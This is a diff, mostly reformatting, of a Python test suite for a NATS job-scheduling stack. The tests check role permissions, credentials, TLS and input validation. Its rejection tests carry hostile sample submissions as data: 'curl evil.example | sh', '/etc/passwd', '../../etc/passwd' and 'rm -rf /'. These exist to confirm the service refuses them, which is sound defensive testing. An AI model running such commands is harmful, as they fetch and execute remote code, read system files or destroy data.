@@ -17,9 +17,9 @@ import nats.errors
 import nats.js.errors
 import pytest
 
+from deploy.probe import EXIT_NO_ANSWER, ProbeFailed, ping
 from launcher.nats import embedded_nats, nats_from_binary, nats_server_binary
 from launcher.setup import provision_now
-from deploy.probe import EXIT_NO_ANSWER, ProbeFailed, ping
 from shared import credentials, permissions, storage, subjects
 from shared.bus import Bus
 from shared.schema import ApplyRequest, JobSpec, PlaceRequest
@@ -31,8 +31,9 @@ LOGINS = ("user", "bob")
 
 def server_config() -> str:
     """Every role in the services' account, and the logins in theirs."""
-    return permissions.render_server_config({role: PASSWORDS[role] for role in permissions.ROLES},
-                                            {login: PASSWORDS[login] for login in LOGINS})
+    return permissions.render_server_config(
+        {role: PASSWORDS[role] for role in permissions.ROLES}, {login: PASSWORDS[login] for login in LOGINS}
+    )
 
 
 @pytest.fixture(scope="module")
@@ -50,8 +51,16 @@ async def connect(url: str, role: str, errors: list[Exception] | None = None, **
             errors.append(error)
 
     options.setdefault("inbox_prefix", permissions.inbox_prefix(role))
-    return await Bus.connect(url, f"test-{role}", user=role, password=PASSWORDS[role], error_cb=collect,
-                             allow_reconnect=False, max_reconnect_attempts=1, **options)
+    return await Bus.connect(
+        url,
+        f"test-{role}",
+        user=role,
+        password=PASSWORDS[role],
+        error_cb=collect,
+        allow_reconnect=False,
+        max_reconnect_attempts=1,
+        **options,
+    )
 
 
 async def refused_publish(url: str, role: str, subject: str, message) -> list[Exception]:
@@ -70,7 +79,7 @@ async def refused_publish(url: str, role: str, subject: str, message) -> list[Ex
     try:
         await sender.publish(subject, message)
         await sender.flush()
-        for _ in range(50):              # the -ERR arrives asynchronously after the publish
+        for _ in range(50):  # the -ERR arrives asynchronously after the publish
             if errors:
                 break
             await asyncio.sleep(0.02)
@@ -95,8 +104,7 @@ async def test_user_is_refused_when_it_publishes_an_allocation(secured: str) -> 
     user = await connect(secured, "user", errors)
     try:
         with pytest.raises((nats.errors.TimeoutError, nats.errors.NoRespondersError)):
-            await user.request(subjects.PLACE, PlaceRequest(round=0, allocations={}),
-                               msgspec.Raw, timeout=0.5)
+            await user.request(subjects.PLACE, PlaceRequest(round=0, allocations={}), msgspec.Raw, timeout=0.5)
     finally:
         await user.close()
     assert_violation(errors, subjects.PLACE)
@@ -111,13 +119,15 @@ async def test_user_submission_is_stored_in_jetstream(secured: str) -> None:
     from cli.submit import submit
 
     spec = JobSpec(id="secure-job-1", application="cifar10")
-    as_user = credentials.connect_options(environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": PASSWORDS["user"]})
+    as_user = credentials.connect_options(
+        environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": PASSWORDS["user"]}
+    )
     assert await submit(spec, secured, **as_user)
-    assert not await submit(spec, secured, **as_user)   # de-duplicated
-    reader = await connect(secured, "profiler")     # as the gate reads it: its durable consumer of the intake
+    assert not await submit(spec, secured, **as_user)  # de-duplicated
+    reader = await connect(secured, "profiler")  # as the gate reads it: its durable consumer of the intake
     try:
         info = await reader.js.stream_info(subjects.INTAKE_STREAM, subjects_filter=">")
-        assert info.state.subjects == {subjects.submit("user"): 1}      # under the login's own subject
+        assert info.state.subjects == {subjects.submit("user"): 1}  # under the login's own subject
         consumer = await storage.open_consumer(reader, subjects.INTAKE_CONSUMER, JobSpec)
         [delivery] = await consumer.fetch(1, timeout=2)
         assert delivery.message == spec
@@ -140,10 +150,10 @@ async def test_user_cannot_delete_the_submissions_stream(secured: str) -> None:
 async def test_message_over_the_size_limit_is_refused(secured: str) -> None:
     user = await connect(secured, "user")
     try:
-        assert user.nc.max_payload == permissions.MAX_PAYLOAD_BYTES      # the server's max_payload, told at connect
+        assert user.nc.max_payload == permissions.MAX_PAYLOAD_BYTES  # the server's max_payload, told at connect
         with pytest.raises(nats.errors.MaxPayloadError, match="maximum payload exceeded"):
             await user.nc.publish(subjects.submit("user"), b"x" * (permissions.MAX_PAYLOAD_BYTES + 1))
-        await user.nc.publish(subjects.submit("user"), b"x" * 16)          # the connection carries on
+        await user.nc.publish(subjects.submit("user"), b"x" * 16)  # the connection carries on
         await user.flush()
     finally:
         await user.close()
@@ -221,26 +231,47 @@ async def refused_request(url: str, role: str, call) -> str:
     return " ".join(str(error) for error in errors).lower()
 
 
-@pytest.mark.parametrize("role, call, subject", [
-    ("estimator", lambda bus: bus.nc.jetstream(timeout=0.5).key_value(subjects.RUNS_BUCKET),
-     f"$JS.API.STREAM.INFO.KV_{subjects.RUNS_BUCKET}"),
-    ("profiler", lambda bus: bus.nc.jetstream(timeout=0.5).delete_stream(subjects.JOBS_STREAM),
-     f"$JS.API.STREAM.DELETE.{subjects.JOBS_STREAM}"),
-    ("profiler", lambda bus: bus.nc.jetstream(timeout=0.5).consumer_info(subjects.JOBS_STREAM, "executor"),
-     f"$JS.API.CONSUMER.INFO.{subjects.JOBS_STREAM}.executor"),
-    ("placer", lambda bus: bus.nc.jetstream(timeout=0.5).account_info(), "$JS.API.INFO"),
-    ("operator", lambda bus: bus.nc.jetstream(timeout=0.5).delete_stream(subjects.RUN_LOG_STREAM),
-     f"$JS.API.STREAM.DELETE.{subjects.RUN_LOG_STREAM}"),
-])
+@pytest.mark.parametrize(
+    "role, call, subject",
+    [
+        (
+            "estimator",
+            lambda bus: bus.nc.jetstream(timeout=0.5).key_value(subjects.RUNS_BUCKET),
+            f"$JS.API.STREAM.INFO.KV_{subjects.RUNS_BUCKET}",
+        ),
+        (
+            "profiler",
+            lambda bus: bus.nc.jetstream(timeout=0.5).delete_stream(subjects.JOBS_STREAM),
+            f"$JS.API.STREAM.DELETE.{subjects.JOBS_STREAM}",
+        ),
+        (
+            "profiler",
+            lambda bus: bus.nc.jetstream(timeout=0.5).consumer_info(subjects.JOBS_STREAM, "executor"),
+            f"$JS.API.CONSUMER.INFO.{subjects.JOBS_STREAM}.executor",
+        ),
+        ("placer", lambda bus: bus.nc.jetstream(timeout=0.5).account_info(), "$JS.API.INFO"),
+        (
+            "operator",
+            lambda bus: bus.nc.jetstream(timeout=0.5).delete_stream(subjects.RUN_LOG_STREAM),
+            f"$JS.API.STREAM.DELETE.{subjects.RUN_LOG_STREAM}",
+        ),
+    ],
+)
 async def test_jetstream_is_granted_per_stream_consumer_and_bucket(secured: str, role, call, subject) -> None:
     text = await refused_request(secured, role, call)
     assert f'permissions violation for publish to "{subject.lower()}"' in text, text
 
 
 async def test_a_service_cannot_write_another_services_bucket(secured: str) -> None:
-    assert_violation(await refused_publish(secured, "estimator", f"$KV.{subjects.RUNS_BUCKET}.live",
-                                           ApplyRequest(now_s=0.0, placements={}, models={}, adaptive=False)),
-                     f"$KV.{subjects.RUNS_BUCKET}.live")
+    assert_violation(
+        await refused_publish(
+            secured,
+            "estimator",
+            f"$KV.{subjects.RUNS_BUCKET}.live",
+            ApplyRequest(now_s=0.0, placements={}, models={}, adaptive=False),
+        ),
+        f"$KV.{subjects.RUNS_BUCKET}.live",
+    )
 
 
 async def test_wrong_password_is_refused_with_a_clear_error(secured: str) -> None:
@@ -248,35 +279,41 @@ async def test_wrong_password_is_refused_with_a_clear_error(secured: str) -> Non
         await Bus.connect_once(secured, "test-intruder", user="user", password="notThePassword1")
 
 
-def test_a_users_command_tells_a_missing_login_from_a_refused_one(secured: str, tmp_path: Path, monkeypatch,
-                                                                   capsys, caplog, no_login) -> None:
+def test_a_users_command_tells_a_missing_login_from_a_refused_one(
+    secured: str, tmp_path: Path, monkeypatch, capsys, caplog, no_login
+) -> None:
     from cli.main import main
 
     caplog.set_level(logging.WARNING)
-    monkeypatch.chdir(tmp_path)                 # no out/stack/user.env here: the command has no login
+    monkeypatch.chdir(tmp_path)  # no out/stack/user.env here: the command has no login
     assert main(["status", "--server", secured]) == 2
     assert "refused a client without a login" in capsys.readouterr().err
     wrong = tmp_path / "password"
     wrong.write_text("notThePassword1\n")
     job = tmp_path / "job.yaml"
     job.write_text("id: a\napplication: cifar10\n")
-    assert main(["submit", str(job), "--server", secured, "--nats-user", "user", "--nats-password-file", str(wrong)]) == 2
+    assert (
+        main(["submit", str(job), "--server", secured, "--nats-user", "user", "--nats-password-file", str(wrong)]) == 2
+    )
     error = capsys.readouterr().err
     assert "refused the login" in error and "notThePassword1" not in error
     # The command's own line is the whole story: no warning of nats-py's before it.
     assert not [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING], caplog.records
 
 
-def test_a_user_asking_for_the_operators_drain_is_told_at_once_its_login_may_not(secured: str, tmp_path: Path,
-                                                                                  monkeypatch, capsys, no_login) -> None:
+def test_a_user_asking_for_the_operators_drain_is_told_at_once_its_login_may_not(
+    secured: str, tmp_path: Path, monkeypatch, capsys, no_login
+) -> None:
     """The server refuses the publish, so no answer would ever come: the command says so when the
     refusal arrives (not after its 30 s timeout, as "cannot reach NATS")."""
     from cli.main import main
 
-    monkeypatch.chdir(tmp_path)                 # no out/stack here: the login is the one given
+    monkeypatch.chdir(tmp_path)  # no out/stack here: the login is the one given
     password = tmp_path / "user.password"
     password.write_text(PASSWORDS["user"] + "\n")
-    assert main(["drain", "cpu-0", "--server", secured, "--nats-user", "user", "--nats-password-file", str(password)]) == 2
+    assert (
+        main(["drain", "cpu-0", "--server", secured, "--nats-user", "user", "--nats-password-file", str(password)]) == 2
+    )
     error = capsys.readouterr().err
     assert f"refused this login's request on {subjects.EXECUTOR_DRAIN}" in error and "permissions violation" in error
     assert "operator's login" in error and "cannot reach" not in error, error
@@ -286,16 +323,31 @@ def test_service_with_a_password_file_connects_and_answers_ping(secured: str, tm
     password_file = tmp_path / "placer.password"
     password_file.write_text(PASSWORDS["placer"] + "\n")
     env = {key: value for key, value in os.environ.items() if not key.startswith("GOODPUT_NATS_")}
-    env["GOODPUT_NATS_PASSWORD_FILE"] = str(password_file)         # the file from the environment,
-    process = subprocess.Popen([sys.executable, "-m", "services.placer", "--server", secured,  # the user as an option
-                                "--nats-user", "placer"], cwd=ROOT, env=env,
-                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+    env["GOODPUT_NATS_PASSWORD_FILE"] = str(password_file)  # the file from the environment,
+    process = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "services.placer",
+            "--server",
+            secured,  # the user as an option
+            "--nats-user",
+            "placer",
+        ],
+        cwd=ROOT,
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+    )
     try:
         # The probe's URL carries the user role's credentials (a user may ping services); its
         # replies come back on the user role's inboxes.
         host = secured.removeprefix("nats://")
-        answer = asyncio.run(ping_until_ready(process, f"nats://user:{PASSWORDS['user']}@{host}",
-                                              inbox_prefix=permissions.inbox_prefix("user")))
+        answer = asyncio.run(
+            ping_until_ready(
+                process, f"nats://user:{PASSWORDS['user']}@{host}", inbox_prefix=permissions.inbox_prefix("user")
+            )
+        )
         assert answer["name"] == "placer"
     finally:
         process.terminate()
@@ -309,17 +361,34 @@ async def ping_until_ready(process: subprocess.Popen, server: str, timeout_s: fl
         try:
             return await ping("placer", server, timeout_s=1.0, **options)
         except ProbeFailed as failure:
-            if failure.code != EXIT_NO_ANSWER or process.poll() is not None \
-                    or asyncio.get_running_loop().time() > deadline:
+            if (
+                failure.code != EXIT_NO_ANSWER
+                or process.poll() is not None
+                or asyncio.get_running_loop().time() > deadline
+            ):
                 raise
         await asyncio.sleep(0.1)
 
 
 def test_service_with_a_missing_password_file_says_so(tmp_path: Path) -> None:
     missing = tmp_path / "nowhere"
-    result = subprocess.run([sys.executable, "-m", "services.placer", "--server", "nats://127.0.0.1:1",
-                             "--nats-user", "placer", "--nats-password-file", str(missing)],
-                            cwd=ROOT, capture_output=True, text=True, timeout=60)
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "services.placer",
+            "--server",
+            "nats://127.0.0.1:1",
+            "--nats-user",
+            "placer",
+            "--nats-password-file",
+            str(missing),
+        ],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert result.returncode == 2
     assert f"--nats-password-file ($GOODPUT_NATS_PASSWORD_FILE): no such file: {missing}" in result.stderr
 
@@ -327,12 +396,14 @@ def test_service_with_a_missing_password_file_says_so(tmp_path: Path) -> None:
 def test_connect_options(tmp_path: Path) -> None:
     secret = tmp_path / "password"
     secret.write_text("s3cret\n")
-    assert credentials.connect_options(credentials.Credentials(user="user", password_file=str(secret)),
-                                       environ={}) == {"user": "user", "password": "s3cret",
-                                                       "inbox_prefix": "_INBOX_user"}
-    assert credentials.connect_options(environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": "p",
-                                                "GOODPUT_NATS_INBOX_PREFIX": "_INBOX_mine"}) == {
-        "user": "user", "password": "p", "inbox_prefix": "_INBOX_mine"}
+    assert credentials.connect_options(credentials.Credentials(user="user", password_file=str(secret)), environ={}) == {
+        "user": "user",
+        "password": "s3cret",
+        "inbox_prefix": "_INBOX_user",
+    }
+    assert credentials.connect_options(
+        environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": "p", "GOODPUT_NATS_INBOX_PREFIX": "_INBOX_mine"}
+    ) == {"user": "user", "password": "p", "inbox_prefix": "_INBOX_mine"}
     assert credentials.connect_options(environ={}) == {}
     with pytest.raises(ValueError, match="needs a password"):
         credentials.connect_options(credentials.Credentials(user="user"), environ={})
@@ -348,9 +419,28 @@ def test_connect_options(tmp_path: Path) -> None:
 
 def _self_signed(directory: Path) -> tuple[str, str]:
     cert, key = directory / "cert.pem", directory / "key.pem"
-    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=localhost",
-                    "-addext", "subjectAltName=IP:127.0.0.1,DNS:localhost",
-                    "-keyout", str(key), "-out", str(cert)], check=True, capture_output=True)
+    subprocess.run(
+        [
+            "openssl",
+            "req",
+            "-x509",
+            "-newkey",
+            "rsa:2048",
+            "-nodes",
+            "-days",
+            "1",
+            "-subj",
+            "/CN=localhost",
+            "-addext",
+            "subjectAltName=IP:127.0.0.1,DNS:localhost",
+            "-keyout",
+            str(key),
+            "-out",
+            str(cert),
+        ],
+        check=True,
+        capture_output=True,
+    )
     return str(cert), str(key)
 
 
@@ -368,9 +458,19 @@ def test_permission_table() -> None:
     assert permissions.login_problem("a.b") and permissions.login_problem("*") and permissions.login_problem("Bob")
     for role, allowed in permissions.ROLES.items():
         # Only the operator makes or changes streams, buckets and consumers; a user publishes to no inbox.
-        changes = [s for s in allowed.publish if s.startswith(("$JS.API.STREAM.CREATE", "$JS.API.STREAM.UPDATE",
-                                                               "$JS.API.STREAM.DELETE", "$JS.API.CONSUMER.DURABLE",
-                                                               "$JS.API.STREAM.PURGE.GOODPUT"))]
+        changes = [
+            s
+            for s in allowed.publish
+            if s.startswith(
+                (
+                    "$JS.API.STREAM.CREATE",
+                    "$JS.API.STREAM.UPDATE",
+                    "$JS.API.STREAM.DELETE",
+                    "$JS.API.CONSUMER.DURABLE",
+                    "$JS.API.STREAM.PURGE.GOODPUT",
+                )
+            )
+        ]
         assert role == "operator" or not changes, (role, changes)
         assert role in permissions.SERVICES or not [s for s in allowed.publish if s.startswith("_INBOX")], role
     for role, allowed in permissions.ROLES.items():
@@ -395,8 +495,9 @@ def test_rendered_config_is_valid_for_nats_server(tmp_path: Path) -> None:
 
 def test_passwords_from_files_and_environment(tmp_path: Path) -> None:
     (tmp_path / "placer").write_text("fromTheFile1\n")
-    passwords = permissions.passwords_from(["placer", "user"], tmp_path,
-                                           environ={"GOODPUT_NATS_PASSWORD_USER": "fromTheEnv1"})
+    passwords = permissions.passwords_from(
+        ["placer", "user"], tmp_path, environ={"GOODPUT_NATS_PASSWORD_USER": "fromTheEnv1"}
+    )
     assert passwords == {"placer": "fromTheFile1", "user": "fromTheEnv1"}
     with pytest.raises(ValueError, match="GOODPUT_NATS_PASSWORD_PROFILER"):
         permissions.passwords_from(["profiler"], tmp_path, environ={})
@@ -417,12 +518,12 @@ async def test_the_stack_runs_a_replay_with_each_service_in_its_role(tmp_path: P
         try:
             await asyncio.wait_for(stack.wait_ready(bus), 60)
             report, records = await asyncio.wait_for(
-                replay(bus, stack, jobs, "sia", {}, settings_for(None, "sia-hetero-64").name, request_timeout_s=5.0),
-                60)
+                replay(bus, stack, jobs, "sia", {}, settings_for(None, "sia-hetero-64").name, request_timeout_s=5.0), 60
+            )
         finally:
             await bus.close()
         logs = {name: stack.log(name) for name in stack.processes}
-        with pytest.raises(nats.errors.Error, match="(?i)authorization"):     # and no one gets in without a login
+        with pytest.raises(nats.errors.Error, match="(?i)authorization"):  # and no one gets in without a login
             await Bus.connect_once(server.url, "anonymous")
     assert len(records.jobs) == 4 and all(r.finish_s is not None for r in records.jobs)
     assert (tmp_path / "secrets" / "policy").stat().st_mode & 0o777 == 0o600
@@ -434,14 +535,26 @@ def test_render_from_the_command_line(tmp_path: Path) -> None:
     for role in ("placer", "user"):
         (tmp_path / role).write_text(PASSWORDS[role])
     env = {key: value for key, value in os.environ.items() if not key.startswith("GOODPUT_NATS_")}
-    result = subprocess.run([sys.executable, "-m", "shared.permissions", "--passwords", str(tmp_path),
-                             "--roles", "placer"], cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)
+    result = subprocess.run(
+        [sys.executable, "-m", "shared.permissions", "--passwords", str(tmp_path), "--roles", "placer"],
+        cwd=ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert result.returncode == 0, result.stderr
     assert result.stdout.startswith("max_payload: 1048576\naccounts {")
     assert f'{{user: "placer", password: "{PASSWORDS["placer"]}"' in result.stdout
-    assert f'{{user: "user", password: "{PASSWORDS["user"]}"' in result.stdout       # the default login
-    missing = subprocess.run([sys.executable, "-m", "shared.permissions", "--passwords", str(tmp_path)], cwd=ROOT,
-                             env=env, capture_output=True, text=True, timeout=60)
+    assert f'{{user: "user", password: "{PASSWORDS["user"]}"' in result.stdout  # the default login
+    missing = subprocess.run(
+        [sys.executable, "-m", "shared.permissions", "--passwords", str(tmp_path)],
+        cwd=ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert missing.returncode == 2 and "GOODPUT_NATS_PASSWORD_PROFILER" in missing.stderr
 
 
@@ -455,18 +568,21 @@ async def test_tls_with_a_ca_file(tmp_path: Path) -> None:
     (tmp_path / "nats").mkdir()
     with nats_from_binary(tmp_path / "nats", config=config + server_config()) as url:
         trusted = credentials.connect_options(
-            credentials.Credentials(user="user", password_file=str(password_file), tls_ca=cert), environ={})
+            credentials.Credentials(user="user", password_file=str(password_file), tls_ca=cert), environ={}
+        )
         bus = await Bus.connect_once(url, "test-tls", **trusted)
         try:
             assert bus.nc.is_connected
             with pytest.raises((nats.errors.TimeoutError, nats.errors.NoRespondersError)):
-                await bus.request(subjects.POLICY_STATUS, PlaceRequest(round=0, allocations={}), msgspec.Raw,
-                                  timeout=0.2)   # allowed for a user; nobody serves it here
+                await bus.request(
+                    subjects.POLICY_STATUS, PlaceRequest(round=0, allocations={}), msgspec.Raw, timeout=0.2
+                )  # allowed for a user; nobody serves it here
         finally:
             await bus.close()
-        untrusted = credentials.connect_options(credentials.Credentials(user="user", password_file=str(password_file)),
-                                                environ={})
-        untrusted["tls"] = ssl.create_default_context()          # the system CAs: not this server's
+        untrusted = credentials.connect_options(
+            credentials.Credentials(user="user", password_file=str(password_file)), environ={}
+        )
+        untrusted["tls"] = ssl.create_default_context()  # the system CAs: not this server's
         with pytest.raises(Exception, match="(?i)certificate verify failed"):
             await Bus.connect_once(url, "test-untrusted", **untrusted)
 
@@ -478,16 +594,26 @@ async def test_submissions_carrying_commands_or_paths_are_refused_with_the_reaso
     from launcher.stack import Stack, service_arguments
     from shared.schema import Ack, Count, Rejected
 
-    bad = {"bad-command": {"id": "bad-command", "application": "cifar10", "command": "curl evil.example | sh"},
-           "bad-script": {"id": "bad-script", "application": "cifar10", "script": "/etc/passwd"},
-           "bad-application": {"id": "bad-application", "application": "../../etc/passwd"}}
+    bad = {
+        "bad-command": {"id": "bad-command", "application": "cifar10", "command": "curl evil.example | sh"},
+        "bad-script": {"id": "bad-script", "application": "cifar10", "script": "/etc/passwd"},
+        "bad-application": {"id": "bad-application", "application": "../../etc/passwd"},
+    }
     arguments = service_arguments("sia-hetero-64", None, True, None, 1, None)
     commands = {}
     for service in ("profiler", "estimator"):
         password_file = tmp_path / f"{service}.password"
         password_file.write_text(PASSWORDS[service])
-        commands[service] = [sys.executable, "-m", f"services.{service}", *arguments[service],
-                             "--nats-user", service, "--nats-password-file", str(password_file)]
+        commands[service] = [
+            sys.executable,
+            "-m",
+            f"services.{service}",
+            *arguments[service],
+            "--nats-user",
+            service,
+            "--nats-password-file",
+            str(password_file),
+        ]
     (tmp_path / "nats").mkdir()
     with nats_from_binary(tmp_path / "nats", config=server_config()) as url:
         provision_now(url, user="operator", password=PASSWORDS["operator"], inbox_prefix="_INBOX_operator")
@@ -499,26 +625,27 @@ async def test_submissions_carrying_commands_or_paths_are_refused_with_the_reaso
             await asyncio.wait_for(stack.wait_ready(operator), 60)
             for payload in bad.values():
                 await user.js_publish(subjects.submit("user"), payload, msg_id=payload["id"])
-            await user.js_publish(subjects.submit("user"), JobSpec(id="good-after", application="cifar10"),
-                                  msg_id="good-after")
+            await user.js_publish(
+                subjects.submit("user"), JobSpec(id="good-after", application="cifar10"), msg_id="good-after"
+            )
             rejected: list[Rejected] = []
             async for record in operator.follow(subjects.refused("user"), Rejected, idle_timeout=30):
                 rejected.append(record)
                 if len(rejected) == len(bad):
                     break
-            for _ in range(100):                      # the good one is profiled: its estimate is stored
+            for _ in range(100):  # the good one is profiled: its estimate is stored
                 if (await operator.request(subjects.ESTIMATOR_STATUS, Ack(), Count, timeout=5)).n == 1:
                     break
                 await asyncio.sleep(0.1)
             assert (await operator.request(subjects.ESTIMATOR_STATUS, Ack(), Count, timeout=5)).n == 1
-            logs = {name: stack.log(name) for name in commands}      # before the stop, which logs its own
+            logs = {name: stack.log(name) for name in commands}  # before the stop, which logs its own
         finally:
             await user.close()
             await operator.close()
             stack.stop()
     reasons = {next(job for job in bad if job in r.payload): r for r in rejected}
     assert set(reasons) == set(bad), rejected
-    assert all(r.subject == subjects.submit("user") for r in rejected)      # where it came
+    assert all(r.subject == subjects.submit("user") for r in rejected)  # where it came
     assert "unknown field `command`" in reasons["bad-command"].reason
     assert "unknown field `script`" in reasons["bad-script"].reason
     assert "$.application" in reasons["bad-application"].reason
@@ -575,7 +702,7 @@ async def test_a_held_job_id_is_refused_to_another_body_and_a_malformed_message_
             await user.js_publish(mine, first)
             await user.js_publish(mine, {"id": "mine", "application": "cifar10", "command": "rm -rf /"})
             await user.js_publish(mine, JobSpec(id="mine", application="ncf", requested_gpus=2))
-            await user.js_publish(mine, first)          # no Nats-Msg-Id: not de-duplicated by the stream
+            await user.js_publish(mine, first)  # no Nats-Msg-Id: not de-duplicated by the stream
             await user.js_publish(mine, JobSpec(id="after", application="cifar10"))
             while True:
                 records = (await operator.request(subjects.RECORDS, JobsQuery(), JobRecords, timeout=10)).jobs
@@ -601,7 +728,9 @@ async def test_a_submission_over_its_bound_is_refused_by_the_intake_stream_and_b
             await user.nc.jetstream().publish(subjects.submit("user"), b"\x81" + b"x" * storage.MAX_INTAKE_BYTES)
     finally:
         await user.close()
-    as_user = credentials.connect_options(environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": PASSWORDS["user"]})
+    as_user = credentials.connect_options(
+        environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": PASSWORDS["user"]}
+    )
     huge = JobSpec(id="huge-spec", application="cifar10", gpu_types=tuple(f"t{i}" * 300 for i in range(32)))
     with pytest.raises(ValueError, match="at most 16 KiB"):
         await submit(huge, secured, **as_user)
@@ -622,7 +751,7 @@ async def test_a_service_refuses_a_stream_that_is_not_as_the_plan_says(tmp_path:
             await operator.js.update_stream(info.config)
             with pytest.raises(storage.StorageMismatch, match="max_bytes is -1, the plan says 1073741824"):
                 await storage.open_stream(operator, subjects.JOBS_STREAM)
-            await storage.provision(operator)                 # the operator brings it back to the plan
+            await storage.provision(operator)  # the operator brings it back to the plan
             await storage.open_stream(operator, subjects.JOBS_STREAM)
             assert storage.total_bytes() < 6 * storage.GIB
         finally:
